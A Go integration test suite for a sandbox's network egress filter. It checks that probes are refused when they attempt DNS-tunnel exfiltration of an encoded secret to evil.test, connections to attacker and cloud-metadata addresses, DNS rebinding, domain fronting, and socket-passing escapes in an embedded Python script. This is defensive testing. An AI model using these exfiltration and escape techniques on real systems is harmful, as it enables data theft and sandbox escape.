//go:build linux

package integration

import (
	"encoding/json"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"confine/compiler"
	"confine/policy"
)

// refusal is an attack: what the probe does, and how it ends inside. "denied" is any errno
// or answer that is not what was wanted.
type refusal struct {
	deed   string
	inside string
	who    control
	// because says why inside is "ok", where the answer shows that the attack gained
	// nothing.
	because string
	// native is the answer where the sandbox has no network of its own, if another.
	native string
}

// refuse makes attacks outside, where each must succeed, and under a policy.
func (w *internet) refuse(t *testing.T, policy string, attacks []refusal) {
	t.Helper()
	var attempts []attempt
	for _, a := range attacks {
		because := a.because
		if because == "" {
			because = "an attack"
		}
		made := attempt{deed: a.deed, inside: a.inside, control: a.who, because: because}
		if a.native != "" {
			made.native = other{inside: a.native, because: "there is no UDP, and every look-up by TCP is the gateway's"}
		}
		attempts = append(attempts, made)
	}
	w.wantsOutside(t, attempts)
	for _, l := range egressLaunches {
		t.Run(l.name, func(t *testing.T) {
			w.visits.forget()
			w.resolver.questions()
			got := w.egressAnswers(t, l, policy, texts(attempts)...)
			for _, a := range attempts {
				a, _ = a.under(answeredAs(l))
				a.judge(t, nil, got)
			}
			if text := w.visits.beyond(apiAddress); text != "" {
				t.Errorf("others than the API got\n%s", text)
			}
			for _, address := range internetAddresses {
				if n := w.visits.count(address); n != 0 && address != apiAddress {
					t.Errorf("%d connections came to %s", n, address)
				}
			}
			for _, name := range w.resolver.questions() {
				if name != "api.vendor.test" {
					t.Errorf("the host's resolver was asked for %s", name)
				}
			}
		})
	}
}

// everything lets the probe make any system call, so that the network and no filter
// refuses.
var everything = "[syscalls]\nbase = \"unrestricted\"\n" +
	accepted(compiler.Firejail, policy.ClauseSyscallsBase) + accepted(compiler.GVisor, policy.ClauseSyscallsBase)

// TestEgressNamesOfOthers: look-ups carry nothing out, whatever they ask for and whoever is
// asked.
func TestEgressNamesOfOthers(t *testing.T) {
	w := newInternet(t)
	policy := egressPolicy(t, `egress = ["api.vendor.test:443"]`)
	attacks := []refusal{
		{deed: "resolve evil.test", inside: "denied"},
		{deed: "resolve c2VjcmV0.data.evil.test", inside: "denied"},
		{deed: "query udp " + otherResolver + ":53 A api.vendor.test", inside: "ENETUNREACH", native: "EPROTONOSUPPORT"},
		{deed: "query tcp " + otherResolver + ":53 A api.vendor.test", inside: "ENETUNREACH"},
		{deed: "query udp " + resolverAddress + ":53 A api.vendor.test", inside: "ENETUNREACH", native: "EPROTONOSUPPORT"},
		{deed: "query tcp " + resolverAddress + ":53 TXT c2VjcmV0.evil.test", inside: "ENETUNREACH", native: "no such name"},
	}
	w.refuse(t, policy, attacks)

	// What the gateway is asked inside, the host's resolver is asked outside.
	for _, l := range egressLaunches {
		t.Run(l.name+" asks the gateway", func(t *testing.T) {
			var inside, outside, alive []string
			networks := []string{"tcp", "udp"}
			if mediated(l) {
				networks = networks[:1]
			}
			for _, network := range networks {
				for _, kind := range []string{"A", "TXT", "MX", "CNAME", "NS", "SRV", "NULL", "HTTPS", "ANY"} {
					inside = append(inside, "query "+network+" 198.18.0.1:53 "+kind+" c2VjcmV0.data.evil.test")
					outside = append(outside, "query "+network+" "+resolverAddress+":53 "+kind+" c2VjcmV0.data.evil.test")
				}
				alive = append(alive, "query "+network+" 198.18.0.1:53 A api.vendor.test")
			}
			for access, got := range w.outside(t, byUser, outside...) {
				if got != "ok" {
					t.Errorf("control: %s: %s", access, got)
				}
			}
			w.resolver.questions()
			got := w.egressAnswers(t, l, policy, append(inside, alive...)...)
			for _, access := range inside {
				if got[access] != "no such name" {
					t.Errorf("%s: %s inside, expected no such name", access, got[access])
				}
			}
			for _, access := range alive {
				if got[access] != "ok" {
					t.Errorf("%s: %s inside, expected ok", access, got[access])
				}
			}
			if asked := w.resolver.questions(); len(asked) != 0 {
				t.Errorf("the host's resolver was asked for %v, and nothing connected", asked)
			}
			// Only addresses are given, and the other kinds have no answer to hide in.
			var empty []string
			for _, kind := range []string{"AAAA", "TXT", "MX", "HTTPS", "SRV", "NULL"} {
				empty = append(empty, "query "+networks[len(networks)-1]+" 198.18.0.1:53 "+kind+" api.vendor.test")
			}
			for access, got := range w.egressAnswers(t, l, policy, empty...) {
				if got != "no record" {
					t.Errorf("%s: %s inside, expected no record", access, got)
				}
			}
		})
	}
}

// TestEgressAddresses: addresses that no entry names have no route, and other protocols than
// TCP go nowhere.
func TestEgressAddresses(t *testing.T) {
	t.Parallel()
	w := newInternet(t)
	w.refuse(t, egressPolicy(t, `egress = ["api.vendor.test:443", "api.vendor.test:7000"]`, everything), []refusal{
		{deed: "exchange " + evilAddress + ":443", inside: "ENETUNREACH"},
		{deed: "exchange " + evilAddress + ":80", inside: "ENETUNREACH"},
		{deed: "exchange " + evilAddress + ":" + echoPort, inside: "ENETUNREACH"},
		{deed: "exchange " + apiAddress + ":443", inside: "ENETUNREACH"},
		{deed: "exchange " + metadataAddress + ":80", inside: "ENETUNREACH"},
		{deed: "exchange " + privateAddress + ":" + echoPort, inside: "ENETUNREACH"},
		{deed: "exchange [" + evilAddress6 + "]:443", inside: "denied"},
		{deed: "exchange [" + apiAddress6 + "]:443", inside: "denied"},
		{deed: "exchange [" + metadataNAT64 + "]:80", inside: "denied"},
		{deed: "exchange [" + metadata6to4 + "]:80", inside: "denied"},
		{deed: "exchange [::ffff:" + evilAddress + "]:443", inside: "denied"},
		{deed: "exchange " + sameAsGateway + ":" + echoPort, inside: "ECONNREFUSED"},
		{deed: "exchange " + sameAsGateway + ":443", inside: "ECONNREFUSED"},
		{deed: "udp " + sameAsGateway + ":" + echoPort, inside: "denied"},
		{deed: "connect " + neighbourAddress + ":" + echoPort, inside: "denied"},
		{deed: "connect " + neighbourAddress + ":443", inside: "denied"},
		{deed: "exchange " + otherInRange + ":443", inside: "denied"},
		{deed: "udp " + neighbourAddress + ":" + echoPort, inside: "denied"},
		// The sandbox's own loopback, not the host's.
		{deed: "exchange 127.0.0.1:" + echoPort, inside: "ECONNREFUSED"},
		{deed: "exchange [::1]:" + echoPort, inside: "denied"},
		{deed: "exchange 0.0.0.0:" + echoPort, inside: "denied"},

		{deed: "udp " + evilAddress + ":443", inside: "ENETUNREACH", native: "EPROTONOSUPPORT"},
		{deed: "udp api.vendor.test:443", inside: "denied"},
		{deed: "udp api.vendor.test:" + echoPort, inside: "denied"},
		{deed: "ping " + evilAddress, inside: "denied"},
		{deed: "ping " + metadataAddress, inside: "denied"},

		{deed: "opens packet", inside: "denied", who: byRoot},
		{deed: "opens raw", inside: "denied", who: byRoot},
		{deed: "opens raw6", inside: "denied", who: byRoot},
		{deed: "route 203.0.113.66/32", inside: "denied", who: byRoot},
		{deed: "address 203.0.113.99/32", inside: "denied", who: byRoot},

		{deed: "exchange api.vendor.test:80", inside: "ECONNREFUSED"},
		{deed: "exchange api.vendor.test:" + echoPort2, inside: "ECONNREFUSED"},
	})
}

// TestEgressLink: the sandbox has one interface beside the loopback, and of the gateway
// nothing but the name server and the ports of the policy.
func TestEgressLink(t *testing.T) {
	t.Parallel()
	w := newInternet(t)
	ports := "80 443 " + echoPort + " " + echoPort2
	for access, got := range w.outside(t, byUser, "scan "+evilAddress+" 65535 "+ports, "interfaces lo outside wire") {
		if got != "ok" {
			t.Errorf("control: %s: %s", access, got)
		}
	}
	policy := egressPolicy(t, `egress = ["api.vendor.test:443", "api.vendor.test:7000", "other.test:80"]`)
	for _, l := range egressLaunches {
		t.Run(l.name, func(t *testing.T) {
			link := "interfaces eth0 lo"
			for access, got := range w.egressAnswers(t, l, policy, link, "exchange api.vendor.test:443") {
				want := "ok"
				if access == link && mediated(l) {
					want = "EAFNOSUPPORT" // nobody tells it of any interface
				}
				if got != want {
					t.Errorf("%s: %s", access, got)
				}
			}
			last := "65535"
			if l.name != "firejail root" {
				last = "8192" // beyond the echo port; the sentry, and a runner that is asked, take their time to refuse
			}
			o := w.finish(t, l.cmd(policy, probe, "scan 198.18.0.1 "+last+" 53", "scan api.vendor.test "+last+" 443 "+echoPort, "scan other.test "+last+" 80")).must(t, 0)
			for access, got := range answers(t, o.stdout) {
				if got != "ok" {
					t.Errorf("%s: %s", access, got)
				}
			}
			// Who tries all ports does not fill the terminal.
			const most = 64
			if n := strings.Count(o.stderr, "\n"); n > most {
				t.Errorf("%d lines on stderr, expected at most %d", n, most)
			}
		})
	}
}

// TestEgressFronting: what a connection says first must be the name that it was opened to.
func TestEgressFronting(t *testing.T) {
	t.Parallel()
	w := newInternet(t)
	const hosts = `egress = ["api.vendor.test:443", "api.vendor.test:80"]`
	attacks := []refusal{
		{deed: "tls api.vendor.test:443 evil.test", inside: "denied"},
		{deed: "tls api.vendor.test:443 api.vendor.test.evil.test", inside: "denied"},
		{deed: "tls api.vendor.test:443 vendor.test", inside: "denied"},
		{deed: "tls api.vendor.test:443 -", inside: "denied"},
		{deed: "http api.vendor.test:443 api.vendor.test", inside: "denied"},
		{deed: "http api.vendor.test:80 evil.test", inside: "denied"},
		{deed: "http api.vendor.test:80 api.vendor.test evil.test", inside: "denied"},
		{deed: "http api.vendor.test:80 api.vendor.test api.vendor.test evil.test", inside: "denied"},
		{deed: "tls api.vendor.test:80 api.vendor.test", inside: "denied"},
	}
	// Another protocol than the port's is no success outside either.
	mixed := func(deed string) bool {
		return strings.HasPrefix(deed, "http api.vendor.test:443") || strings.HasPrefix(deed, "tls api.vendor.test:80")
	}
	w.refuse(t, egressPolicy(t, hosts), slices.DeleteFunc(slices.Clone(attacks), func(a refusal) bool { return mixed(a.deed) }))
	honest := []string{
		"tls api.vendor.test:443 api.vendor.test", "tls api.vendor.test:443 API.Vendor.Test",
		"http api.vendor.test:80 api.vendor.test", "http api.vendor.test:80 api.vendor.test API.vendor.test:80 api.vendor.test",
	}
	for _, l := range egressLaunches {
		for name, tables := range map[string]string{"deny": hosts, "allow": hosts + "\nfronting = \"allow\""} {
			t.Run(l.name+" "+name, func(t *testing.T) {
				deeds := slices.Clone(honest)
				for _, a := range attacks {
					deeds = append(deeds, a.deed)
				}
				w.visits.forget()
				got := w.egressAnswers(t, l, egressPolicy(t, tables), deeds...)
				for i, deed := range deeds {
					want := i < len(honest) || name == "allow" && !mixed(deed)
					if ok := got[deed] == "ok"; ok != want {
						t.Errorf("%s: %s", deed, got[deed])
					}
				}
				// The API sees none of the names of others where that is denied.
				if name == "deny" && strings.Contains(w.visits.beyond("nobody"), "evil.test") {
					t.Errorf("the API got\n%s", w.visits.beyond("nobody"))
				}
			})
		}
	}
}

// answerList are the answers of a probe in order: the same attempt may come twice.
func answerList(t *testing.T, text string) []string {
	t.Helper()
	var list []string
	decoder := json.NewDecoder(strings.NewReader(text))
	for decoder.More() {
		var r struct{ Result string }
		if err := decoder.Decode(&r); err != nil {
			t.Fatalf("%v in %q", err, text)
		}
		list = append(list, r.Result)
	}
	return list
}

// TestEgressRebinding: a name that resolves to another address later gains nothing.
func TestEgressRebinding(t *testing.T) {
	t.Parallel()
	w := newInternet(t)
	policy := egressPolicy(t, `egress = ["rebind.vendor.test:443"]`)
	for name, later := range map[string][]string{
		"metadata":       {metadataAddress},
		"loopback":       {"127.0.0.1"},
		"loopback6":      {"::1"},
		"private":        {privateAddress},
		"unique local":   {uniqueLocal},
		"NAT64":          {metadataNAT64},
		"6to4":           {metadata6to4},
		"IPv4 in IPv6":   {"::ffff:" + metadataAddress},
		"the gateway":    {sameAsGateway},
		"its neighbours": {neighbourAddress},
	} {
		t.Run(name, func(t *testing.T) {
			const deed = "exchange rebind.vendor.test:443"
			steps := func() { w.resolver.set("rebind.vendor.test", []string{apiAddress}, later, later, []string{apiAddress}) }
			steps()
			o := w.finish(t, asConnector(exec.Command(probe, deed, deed, deed, deed))).must(t, 0)
			if got := answerList(t, o.stdout); !slices.Equal(got, []string{"ok", "ok", "ok", "ok"}) {
				t.Errorf("control: %v", got)
			}
			for _, l := range egressLaunches {
				t.Run(l.name, func(t *testing.T) {
					steps()
					w.visits.forget()
					o := w.finish(t, l.cmd(policy, probe, deed, deed, deed, deed)).must(t, 0)
					if got := answerList(t, o.stdout); !slices.Equal(got, []string{"ok", "ECONNRESET", "ECONNRESET", "ok"}) {
						t.Errorf("inside: %v", got)
					}
					if n := w.visits.count(later[0]); n != 0 {
						t.Errorf("%d connections came to %s", n, later[0])
					}
					if !strings.Contains(o.stderr, "rebind.vendor.test") {
						t.Errorf("stderr: %s", o.stderr)
					}
				})
			}
		})
	}
}

// hostSockets does with sockets of the host's what leads elsewhere than to their address, or
// lets somebody else in.
const hostSockets = `import ctypes, errno, fcntl, os, socket
evil, api = ("203.0.113.66", 7000), ("api.vendor.test", 7000)
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, f):
    try: f(); print(name, "ok")
    except OSError as e: print(name, errno.errorcode[e.errno])
def kind(*kind): socket.socket(*kind).close()
def disconnect(s):
    if libc.connect(s.fileno(), bytes(16), 16): raise OSError(ctypes.get_errno(), "connect")
def again():
    s = socket.create_connection(api)
    try: disconnect(s)
    except OSError: pass
    s.connect(evil)
def passed():
    ours, theirs = socket.socketpair()
    mine = socket.socket()
    socket.send_fds(ours, [b"x"], [mine.fileno()])
    mine.close()
    s = socket.socket(fileno=socket.recv_fds(theirs, 1, 1)[1][0])
    s.connect(evil)
attempt("udp", lambda: kind(socket.AF_INET, socket.SOCK_DGRAM))
attempt("multipath", lambda: kind(socket.AF_INET, socket.SOCK_STREAM, 262))
attempt("unix", lambda: kind(socket.AF_UNIX))
attempt("netlink", lambda: kind(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("bind", lambda: socket.socket().bind(("127.0.0.1", 0)))
attempt("listen", lambda: socket.socket().listen())
attempt("device", lambda: socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"))
attempt("options", lambda: socket.socket().setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\1" * 4))
attempt("fast open", lambda: socket.socket().sendto(b"x", socket.MSG_FASTOPEN, evil))
attempt("later", lambda: socket.socket().setsockopt(socket.IPPROTO_TCP, 30, 1))
attempt("interfaces", lambda: fcntl.ioctl(socket.socket(), 0x8912, bytes(16)))
attempt("disconnect", lambda: disconnect(socket.create_connection(api)))
attempt("again", again)
attempt("passed", passed)
attempt("gateway", lambda: socket.create_connection(api).close())
`

// TestEgressSocketsOfTheHost: where the runner makes the program's connections, the program
// has sockets of the host's, and nothing can be done by them but what it is asked.
func TestEgressSocketsOfTheHost(t *testing.T) {
	t.Parallel()
	w := newInternet(t)
	program := []string{"/usr/bin/python3.11", "-c", hostSockets}
	control := w.finish(t, asConnector(exec.Command(program[0], program[1:]...))).must(t, 0)
	if strings.Count(control.stdout, " ok\n") != strings.Count(control.stdout, "\n") {
		t.Fatalf("control: %s", control.stdout)
	}
	want := strings.Join([]string{
		"udp EPROTONOSUPPORT", "multipath EPROTONOSUPPORT", "unix EAFNOSUPPORT", "netlink EAFNOSUPPORT", "bind EPERM", "listen EPERM",
		"device ENOTSUP", "options ENOTSUP", "fast open ENOTSUP", "later ENOTSUP", "interfaces EPERM",
		"disconnect EISCONN", "again EISCONN", "passed ENETUNREACH", "gateway ok", "",
	}, "\n")
	policy := egressPolicy(t, `egress = ["api.vendor.test:7000"]`, everything)
	for _, l := range egressLaunches {
		if !mediated(l) {
			continue
		}
		t.Run(l.name, func(t *testing.T) {
			w.visits.forget()
			want := want
			if backendOf(l) == compiler.Native {
				// The program is in the host's network namespace, whose interfaces it may know.
				want = strings.Replace(want, "interfaces EPERM", "interfaces ok", 1)
			}
			if o := w.finish(t, l.cmd(policy, program...)).must(t, 0); o.stdout != want {
				t.Errorf("got\n%s\nexpected\n%s", o.stdout, want)
			}
			if n := w.visits.count(evilAddress); n != 0 {
				t.Errorf("%d connections came to %s", n, evilAddress)
			}
		})
	}
}
